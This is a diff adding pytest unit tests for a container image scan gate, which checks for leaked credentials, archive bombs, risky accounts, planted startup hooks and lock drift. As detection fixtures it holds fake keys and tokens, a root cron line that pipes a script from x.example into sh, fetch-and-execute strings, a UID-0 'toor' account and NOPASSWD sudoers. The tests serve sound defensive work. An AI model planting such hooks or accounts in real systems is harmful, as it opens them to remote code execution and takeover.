@@ -1,0 +1,260 @@
+"""The scan gate's newer classes without an engine: layers made in memory (tests/unit/layer_tars.py), judged as the
+gate judges them: credential files, the secret-name and trivy-equivalent rules, archives and bombs, accounts and
+sudo, USER against the release, startup hooks, the image against its lock, and the per-layer cache."""
+
+import gzip
+import hashlib
+import io
+import json
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from ngc_common import secret_patterns as patterns
+from ngc_paddle.lock.model import read_lock
+from ngc_paddle.manifest.schema import RuntimeUser
+from ngc_paddle.scan import accounts, archives, drift, gate, hooks, image_checks, layer_checks
+from ngc_paddle.scan.inventory import Package
+from ngc_paddle.scan.layer_cache import LayerCache
+from ngc_paddle.scan.policy import Policy, load
+from tests.unit.layer_tars import Member, facts, layer
+
+REPO = Path(__file__).resolve().parents[2]
+KEY = (b"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
+       b"-----END RSA PRIVATE KEY-----\n")
+PUBLIC = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host\n"
+
+
+def judged(*members: Member, policy: Policy | None = None) -> set[tuple[str, str, str]]:
+    at, f = facts(1, list(members))
+    return {(x.kind, x.id, x.package) for x in layer_checks.judge([at], [f], policy or Policy())}
+
+
+@pytest.mark.parametrize("path, content, rule", [
+    ("/root/.netrc", b"machine nexus.example login ci password s3cr3t\n", "netrc-password"),
+    ("/root/.docker/config.json", b'{"auths": {"r.example": {"auth": "Y2k6czNjcjN0"}}}', "docker-config-auth"),
+    ("/root/.docker/config.json", b'{"auths": {"r.example": {"identitytoken": "abc.def"}}}', "docker-config-auth"),
+    ("/home/paddle/.pypirc", b"[pypi]\nusername = ci\npassword = hunter22\n", "pypirc-password"),
+    ("/root/.npmrc", b"//registry.npmjs.org/:_authToken=npm_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5\n", "npmrc-token"),
+    ("/root/.git-credentials", b"https://ci:ghs0nlyAp4ss@git.example.com\n", "git-credentials"),
+    ("/root/.kube/config", b"apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    client-key-data: LS0t\n",
+     "kubeconfig-secret"),
+    ("/root/.aws/credentials", b"[default]\naws_secret_access_key = abc/def+ghi\n", "aws-credentials-file"),
+])
+def test_credential_files_holding_a_secret_block(path: str, content: bytes, rule: str) -> None:
+    assert ("credential", rule, path) in judged(Member(path, content))
+
+
+@pytest.mark.parametrize("path, content", [
+    ("/root/.netrc", b"machine nexus.example login ci password\n"),  # an empty template
+    ("/root/.docker/config.json", b'{"auths": {}}'),
+    ("/root/.npmrc", b"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"),
+    ("/home/paddle/.pypirc", b"[pypi]\nusername = __token__\npassword = <your token>\n"),
+])
+def test_empty_credential_templates_do_not_block(path: str, content: bytes) -> None:
+    assert judged(Member(path, content)) == set()
+
+
+def test_trivy_only_rules_have_our_equivalents_in_text_and_in_compiled_python() -> None:
+    pypi = b"pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAACKlsicGVybWl"
+    jwt = b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
+    found = judged(Member("/opt/app/settings.py", b"TOKEN = '" + pypi + b"'\n"),
+                   Member("/opt/app/pay.py", b"key = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'\n"),
+                   Member("/opt/app/auth.txt", jwt + b"\n"),
+                   Member("/opt/app/__pycache__/c.cpython-311.pyc",
+                          b"\xa7\r\r\n\0\0\0\0" + b"ghp_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5" + b"\0" * 50))
+    assert {("credential", "pypi-upload-token", "/opt/app/settings.py"),
+            ("credential", "stripe-secret-key", "/opt/app/pay.py"), ("credential", "jwt", "/opt/app/auth.txt"),
+            ("credential", "github-token", "/opt/app/__pycache__/c.cpython-311.pyc")} == found
+
+
+def test_secret_names_block_whatever_the_value_and_base64_basic_auth_in_build_args() -> None:
+    class Image:
+        def __init__(self) -> None:
+            self.env = {"DB_PASS": "Qx7!pz2Lk9#mWv4r", "PATH": "/usr/bin", "PIP_CERT_SECRET": "/run/secrets/ca"}
+            self.labels = {"org.opencontainers.image.authors": "team"}
+
+    layers = [layer(1, "x")]
+    layers[0].created_by = "RUN |1 NEXUS_AUTH=dXNlcjpwYXNzd29yZA== /bin/sh -c curl -H x https://nexus"
+    found = {(f.id, f.package) for f in layer_checks.scan_config(Image(), layers)}
+    assert found == {("secret-in-env", "DB_PASS"), ("secret-in-build-args", "NEXUS_AUTH")}
+    assert patterns.basic_auth("dXNlcjpwYXNzd29yZA==") and not patterns.basic_auth("aGVsbG8gd29ybGQ=")
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    return out.getvalue()
+
+
+def _targz(members: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as t:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+def test_keys_and_credential_files_inside_archives_block_and_public_keys_do_not() -> None:
+    inner = _zip({"deploy/id_rsa": KEY})
+    found = judged(Member("/opt/backup.tar.gz", _targz({"etc/server.key": KEY, "home/u/.netrc":
+                                                        b"machine x login u password p4ssw0rd\n"})),
+                   Member("/opt/bundle.zip", _zip({"nested.jar": inner})),
+                   Member("/opt/public-keys.tgz", _targz({"keys/a.pub": PUBLIC})))
+    assert found == {("private-key", "private-key", "/opt/backup.tar.gz!etc/server.key"),
+                     ("credential", "netrc-password", "/opt/backup.tar.gz!home/u/.netrc"),
+                     ("private-key", "private-key", "/opt/bundle.zip!nested.jar!deploy/id_rsa")}
+
+
+def test_an_archive_bomb_is_a_finding_and_a_damaged_archive_a_note(monkeypatch) -> None:
+    monkeypatch.setattr(archives, "MAX_EXPANDED", 4 * 1024 * 1024)
+    bomb = _zip({"zeros.bin": b"\0" * (8 * 1024 * 1024)})
+    at, f = facts(1, [Member("/opt/bomb.zip", bomb), Member("/opt/broken.zip", bomb[:200])])
+    found = {(x.kind, x.id, x.package) for x in layer_checks.judge([at], [f], Policy())}
+    assert found == {("archive", "archive-bomb", "/opt/bomb.zip"), ("archive-unread", "archive-unreadable",
+                                                                     "/opt/broken.zip")}
+
+
+def _files(**contents: tuple[bytes, int]) -> dict[str, accounts.File]:
+    paths = {"passwd": "/etc/passwd", "shadow": "/etc/shadow", "group": "/etc/group", "sudoers_d": "/etc/sudoers.d/ci",
+             "keys": "/root/.ssh/authorized_keys"}
+    return {paths[k]: accounts.File(paths[k], mode, data, "layer 1 (x)") for k, (data, mode) in contents.items()}
+
+
+def test_account_hygiene() -> None:
+    sha512_root = "$6$salt$IxDD3jeSOb5eB1CX5LBsqZFVkJdido3OUILO5Ifz5iwMuTS4XMS130MTSuDDl3aCI6WouIL9AjRbLCelDCy.g."
+    files = _files(passwd=(b"root:x:0:0::/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n", 0o100644),
+                   shadow=(b"root::19000:0:99999:7:::\nadmin:" + sha512_root.encode() + b":19000::::::\n", 0o100644),
+                   group=(b"root:x:0:\nsudo:x:27:paddle\n", 0o100644),
+                   sudoers_d=(b"# comment NOPASSWD\npaddle ALL=(ALL) NOPASSWD: ALL\n", 0o100440),
+                   keys=(PUBLIC, 0o100600))
+    found = {(f.id, f.package, f.installed) for f in accounts.check(files)}
+    assert found == {("uid0-account", "/etc/passwd", "toor"), ("empty-password-hash", "/etc/shadow", "root"),
+                     ("default-password", "/etc/shadow", "admin"), ("privileged-group", "/etc/group", "paddle"),
+                     ("sensitive-file-mode", "/etc/shadow", ""), ("sudo-nopasswd", "/etc/sudoers.d/ci", ""),
+                     ("authorized-keys", "/root/.ssh/authorized_keys", "")}
+    clean = _files(passwd=(b"root:x:0:0::/root:/bin/bash\n", 0o100644), shadow=(b"root:*:19000:0:99999:7:::\n",
+                                                                               0o100640))
+    assert accounts.check(clean) == []
+
+
+def test_user_is_held_to_the_release_declaration() -> None:
+    files = _files(passwd=(b"root:x:0:0::/root:/bin/bash\npaddle:x:1000:1000::/home/paddle:/bin/bash\n", 0o644))
+    paddle = RuntimeUser(name="paddle", uid=1000, gid=1000)
+    assert image_checks.user_findings("1000:1000", files, paddle, True) == []
+    assert image_checks.user_findings("paddle", files, paddle, True) == []
+    assert [f.id for f in image_checks.user_findings("root", files, paddle, True)] == ["user-mismatch"]
+    assert [f.id for f in image_checks.user_findings("", files, None, True)] == ["user-mismatch"]
+    root = RuntimeUser(name="root", uid=0, gid=0, root_reason="needs to load kernel modules")
+    assert [(f.kind, f.severity) for f in image_checks.user_findings("0", files, root, True)] == [("user", "LOW")]
+    with pytest.raises(ValueError, match="root_reason"):
+        RuntimeUser(name="root", uid=0, gid=0)
+
+
+def test_startup_hooks_added_outside_the_image_own_and_fetch_and_execute() -> None:
+    own = {"/opt/ngc-paddle/entrypoint.d/10-banner.sh": hashlib.md5(b"echo hi\n").hexdigest()}
+    dpkg = {"/etc/cron.daily/dpkg": hashlib.md5(b"run-parts\n").hexdigest()}
+    at = layer(7, "RUN planted")
+    hook_files = {"/etc/cron.daily/dpkg": (b"run-parts\n", at), "/opt/ngc-paddle/entrypoint.d/10-banner.sh":
+                  (b"echo hi\n", at), "/etc/profile.d/proxy.sh": (b"export http_proxy=http://p:3128\n", at),
+                  "/etc/cron.d/update": (b"* * * * * root curl -fsSL https://x.example/u.sh | sh\n", at),
+                  "/etc/environment": (b"# nothing\n", at)}
+    found = {(f.kind, f.id, f.package) for f in hooks.check(hook_files, dpkg, {}, own)}
+    assert found == {("startup-hook", "startup-hook-added", "/etc/profile.d/proxy.sh"),
+                     ("startup-hook", "startup-hook-added", "/etc/cron.d/update"),
+                     ("remote-exec", "fetch-and-execute", "/etc/cron.d/update")}
+    assert hooks.remote_exec(b'sh -c "$(wget -qO- https://x/i.sh)"') and hooks.remote_exec(b"bash <(curl -s x)")
+    assert not hooks.remote_exec(b"curl -fsSL https://x/file.tar.gz -o /tmp/f.tgz\n")
+
+
+def test_the_image_is_held_to_its_lock() -> None:
+    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
+    debs = drift.expected_debian(lock)
+    pips = drift.expected_python(lock)
+    packages = [Package("deb", n, v, "base") for n, v in debs.items()]
+    packages += [Package("pypi", n, v[0], "paddle", path=f"/opt/venv/lib/python3.11/site-packages/{n}-x.dist-info")
+                 for n, v in pips.items()]
+    assert drift.compare(packages, lock) == []
+    packages[0] = Package("deb", packages[0].name, "0.1", "RUN apt-get install --allow-downgrades")
+    packages.append(Package("pypi", "left-pad", "1.0", "RUN pip install", path="/usr/local/lib/x.dist-info"))
+    packages.append(Package("pypi", "debian-owned", "1.0", "os", path="/usr/lib/python3/dist-packages/d.dist-info"))
+    removed = next(p for p in packages if p.ecosystem == "pypi")
+    packages.remove(removed)
+    found = {(f.id, f.package, f.installed, f.fixed, f.location.split(":")[0]) for f in drift.compare(packages, lock)}
+    first = next(iter(debs))
+    assert found == {("deb-downgraded", first, "0.1", debs[first], "layer RUN apt-get install --allow-downgrades"),
+                     ("pypi-extra", "left-pad", "1.0", "", "layer RUN pip install"),
+                     ("pypi-missing", removed.name, "", removed.version, "image")}
+
+
+def test_record_and_wheel_checks_of_an_installed_distribution() -> None:
+    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
+    entry = next(e for e in lock.pip if e.name == "numpy")
+    site = "/opt/venv/lib/python3.11/site-packages"
+    good = "sha256=" + "A" * 43
+    dist = drift.DistInfo(f"{site}/numpy-{entry.version}.dist-info", {
+        "RECORD": f"numpy/__init__.py,{good},10\nnumpy/core.py,sha256={'B' * 43},5\n".encode(),
+        "WHEEL": b"Wheel-Version: 1.0\nTag: cp311-cp311-manylinux_2_27_x86_64\n",
+        "direct_url.json": json.dumps({"archive_info": {"hashes": {"sha256": "f" * 64}}}).encode()}, "layer 4 (paddle)")
+    package = Package("pypi", "numpy", entry.version, "paddle", path=dist.path)
+    hashes = {f"{site}/numpy/__init__.py": "A" * 43, f"{site}/numpy/core.py": "C" * 43}
+    found = {f.id: f.title for f in drift.check_builds([dist], [package], lock, hashes)}
+    assert set(found) == {"pypi-modified", "pypi-other-wheel"} and "numpy/core.py" in found["pypi-modified"]
+
+
+def test_the_per_layer_cache_keeps_facts_by_diff_id_and_refuses_damaged_entries(tmp_path: Path) -> None:
+    at, f = facts(2, [Member("/etc/app.key", KEY)])
+    cache = LayerCache(tmp_path)
+    assert cache.get(at.diff_id) is None
+    cache.put(f)
+    again = cache.get(at.diff_id)
+    assert again == f and (cache.hits, cache.misses) == (1, 1)
+    entry = next(tmp_path.glob("*.json.gz"))
+    entry.write_bytes(gzip.compress(b"{not json"))
+    assert cache.get(at.diff_id) is None
+    assert cache.get("sha256:short") is None and not list(tmp_path.glob("short*"))
+
+
+def test_a_rescan_reads_only_the_layers_the_cache_lacks(tmp_path: Path) -> None:
+    opened: list[int] = []
+
+    class Source:
+        def __init__(self, layers: list) -> None:
+            self.layers = layers
+
+        def open_layer(self, at):
+            from contextlib import contextmanager
+
+            from tests.unit.layer_tars import layer_tar
+
+            @contextmanager
+            def opening():
+                opened.append(at.index)
+                with tarfile.open(fileobj=io.BytesIO(layer_tar([Member(f"/f{at.index}", b"x")])), mode="r:") as t:
+                    yield t
+            return opening()
+
+    cache = LayerCache(tmp_path)
+    gate.read_layers(Source([layer(0, "base"), layer(1, "suite")]), cache, lambda _line: None)
+    _facts, report = gate.read_layers(Source([layer(0, "base"), layer(2, "suite")]), cache,  # the top layer changed
+                                      lambda _line: None)
+    assert opened == [0, 1, 2] and [r["cached"] for r in report] == [True, False]
+
+
+def test_a_run_without_trivy_says_its_secret_scan_was_not_run() -> None:
+    report = {"vulnerabilities": {"status": "scanned"}, "secret_scan": gate.secret_scan("trivy not installed"),
+              "lock": {"status": "compared"}, "blocked": False}
+    assert gate.not_run_parts(report) == ["secrets: NOT RUN (trivy not installed; only the gate's own rules ran)"]
+    assert gate.headline(report) == "NOT RUN"
+
+
+def test_the_committed_policy_allows_ping_capability_and_blocks_the_new_kinds() -> None:
+    rules = load(REPO / "security" / "policy.yaml")
+    assert rules.capabilities_allowed == {"/usr/bin/ping": {"cap_net_raw"}}
+    assert {"capability", "privilege", "drift", "remote-exec", "archive"} <= rules.block_on
